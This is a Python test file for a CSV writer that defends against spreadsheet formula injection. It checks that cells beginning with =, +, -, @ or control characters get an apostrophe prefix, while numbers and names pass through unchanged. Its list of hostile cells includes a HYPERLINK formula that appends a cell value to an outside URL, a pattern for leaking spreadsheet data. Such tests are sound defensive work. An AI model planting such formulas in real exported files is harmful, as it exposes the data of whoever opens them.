import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from spacewarps.formulas import as_text, from_text, table_as_text, table_from_text
from spacewarps.prediction.table import written_table
from spacewarps.writing import write_csv

HOSTILE = [
    '=HYPERLINK("http://example.org?"&A1,"open")',
    "+12-34",
    "-J1200",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=",
    "-",
    "-1-1",
    "-1e",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
]
HARMLESS = ["", "STAR", "-7", "+7", "-9999.5", "+.5e-3", "1237660025035096479", "'quoted'", "J12=3", "'", "it's =1"]
TEXTS = st.text(alphabet="'=+-@\t\r\n1.eA\N{FULLWIDTH EQUALS SIGN}", max_size=6) | st.text(max_size=6)


@pytest.mark.parametrize("cell", HOSTILE)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_and_names_are_written_as_they_are(cell: str) -> None:
    assert as_text(cell) == cell


@given(TEXTS)
def test_each_text_comes_back_and_none_is_written_as_a_formula(cell: str) -> None:
    written = as_text(cell)
    assert from_text(written) == cell
    assert written[:1] not in tuple("=@\t\r\n")
    assert written[:1] not in ("+", "-") or float(written) is not None


@given(st.lists(TEXTS, unique=True))
def test_ids_that_differ_stay_different(cells: list[str]) -> None:
    assert len(set(map(as_text, cells))) == len(cells)


def test_a_table_keeps_its_numbers_gaps_and_types_and_comes_back(tmp_path: Path) -> None:
    table = pd.DataFrame({"id": [*HOSTILE, *HARMLESS], "=p": -0.5, "n": -1, "is": True}).assign(gaps=None)
    table["mixed"] = pd.Series([1, None, "=1"] + [2] * (len(table) - 3), dtype=object)
    kept = table.copy()
    write_csv(tmp_path / "table.csv", table)
    pd.testing.assert_frame_equal(table, kept)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "table.csv").read_text(encoding="utf-8"), newline="")))
    assert rows[0] == {"id": f"'{HOSTILE[0]}", "'=p": "-0.5", "n": "-1", "is": "True", "gaps": "", "mixed": "1"}
    assert rows[2]["mixed"] == "'=1"
    pd.testing.assert_frame_equal(table_from_text(table_as_text(table)), table)


def test_a_table_of_predictions_runs_nothing_as_csv_and_is_as_it_is_in_parquet(tmp_path: Path) -> None:
    table = pd.DataFrame({"id": ["=1+1", "b"], "class": ["@A", "-1"], "p_@A": [0.5, 0.25]})
    for name in ("out.csv", "out.parquet"):
        with written_table(tmp_path / name, Path(name)) as append:
            append(table[:1])
            append(table[1:])
    assert (tmp_path / "out.csv").read_text() == "id,class,p_@A\n'=1+1,'@A,0.5\nb,-1,0.25\n"
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "out.parquet"), table)
